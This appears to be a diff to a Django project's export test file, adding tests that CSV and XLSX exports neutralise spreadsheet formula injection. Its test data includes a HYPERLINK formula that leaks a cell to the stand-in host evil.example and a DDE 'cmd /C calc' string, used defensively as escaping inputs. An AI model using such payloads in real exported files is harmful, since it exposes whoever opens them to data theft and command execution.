@@ -8,13 +8,12 @@ import openpyxl
 import pytest
 import tablib
 from django.contrib import admin
-from django.contrib.admin import AdminSite
 from django.core.signals import request_finished
 from django.db import close_old_connections, connection
 from django.http import StreamingHttpResponse
 from django.test import RequestFactory
 from django.test.utils import CaptureQueriesContext
-from django.urls import NoReverseMatch, path, reverse
+from django.urls import reverse
 from import_export.formats.base_formats import CSV, XLSX
 
 from core.bookings.models import Booking
@@ -23,42 +22,23 @@ from core.catalog.models import MiniMovePackage, SurchargeRule
 from core.common.audit import acting_as
 from core.customers.models import CustomerProfile
 from core.customers.services import CustomerData
-from ops_console.exports import BOOKING_STREAM_HEADERS, StreamingExportMixin
+from ops_console.exports import BOOKING_STREAM_HEADERS
+from ops_console.formulas import escape_formula, unescape_formula
 from ops_console.resources import (
     BookingResource,
     CustomerResource,
     MiniMovePackageResource,
     PaymentResource,
     SurchargeRuleResource,
-    escape_formula,
 )
 from tests.factories import CustomerFactory, UserFactory
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
-# --- A private admin site carrying the streaming mixin, until BookingAdmin includes it itself --------------
-
-_private_site = AdminSite(name="stream_test_admin")
-
-
-def _stream_admin_class():
-    registered = type(admin.site._registry[Booking])
-    if issubclass(registered, StreamingExportMixin):
-        return registered
-    return type("StreamingBookingAdmin", (StreamingExportMixin, registered), {})
-
-
-_private_site.register(Booking, _stream_admin_class())
-urlpatterns = [path("stream-admin/", _private_site.urls)]
-
 
 @pytest.fixture
-def stream_url(settings):
-    try:
-        return reverse("admin:core_booking_export_stream")
-    except NoReverseMatch:
-        settings.ROOT_URLCONF = __name__
-        return reverse("stream_test_admin:core_booking_export_stream")
+def stream_url():
+    return reverse("admin:core_booking_export_stream")
 
 
 @pytest.fixture
@@ -101,9 +81,22 @@ def _read_stream(response) -> list[list[str]]:
     ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\uff1d1+1", "'\uff1d1+1"),
     ("+12125550123", "+12125550123"), ("-5", "-5"), ("12.50", "12.50"), ("Alex", "Alex"), ("", ""),
+    # a formula behind leading blanks is still evaluated by Excel and LibreOffice
+    (" =1+1", "' =1+1"), ("  @SUM(A1)", "'  @SUM(A1)"), (" \t+cmd", "' \t+cmd"), ("\u00a0\uff1d1", "'\u00a0\uff1d1"),
+    (" Alex", " Alex"), ("  ", "  "),
 ])
 def test_escape_formula(raw, expected):
     assert escape_formula(raw) == expected
+    assert unescape_formula(escape_formula(raw)) == raw
+
+
+@pytest.mark.django_db
+def test_a_formula_behind_a_leading_space_is_escaped_in_both_booking_exports(staff_client, stream_url, make_booking):
+    make_booking(notes=" =1+1")
+    streamed = dict(zip(*_read_stream(staff_client.get(stream_url)), strict=True))
+    in_memory = dict(zip(*csv.reader(io.StringIO(CSV().export_data(BookingResource().export()))), strict=True))
+    for record in (streamed, in_memory):
+        assert record["notes"] == "' =1+1"
 
 
 # --- Customers -------------------------------------------------------------------------------------------
@@ -352,8 +345,8 @@ def test_streaming_export_abandoned_midway_leaves_the_connection_usable(make_boo
     # given more bookings than one chunk, and a client that goes away after the first chunk
     for _ in range(3):
         make_booking()
-    model_admin = _private_site._registry[Booking]
-    model_admin.stream_export_chunk_size = 1  # this private instance only
+    model_admin = type(admin.site._registry[Booking])(Booking, admin.site)
+    model_admin.stream_export_chunk_size = 1  # this unregistered instance only
     request = RequestFactory().get("/export-stream/")
     request.user = UserFactory(is_superuser=True)
     response = model_admin.export_stream_view(request)
@@ -448,3 +441,18 @@ def test_payment_export_shows_dollars_and_the_booking_number(make_booking):
     record = dict(zip(rows[0], rows[1], strict=True))
     assert (record["booking_number"], record["stripe_payment_intent_id"]) == (booking.booking_number, "pi_123")
     assert (record["amount"], record["refunded"], record["stripe_fee"]) == ("1234.50", "25.00", "")
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("method", ["get", "post"])
+def test_console_export_with_an_unknown_filter_is_a_console_message(staff_client, make_booking, method):
+    from django.contrib.messages import get_messages
+
+    make_booking()
+    url = reverse("admin:core_booking_export") + "?bogus=1"
+    csv_format = _format_index(admin.site._registry[Booking].get_export_formats(), CSV)
+    response = getattr(staff_client, method)(url, {"format": csv_format, "resource": "0",
+                                                   "bookingresource_booking_number": "on"} if method == "post" else {})
+    assert response.status_code == 302 and response["Location"] == reverse("admin:core_booking_changelist")
+    [message] = get_messages(response.wsgi_request)
+    assert message.level_tag == "error" and "filter the list does not know" in str(message)
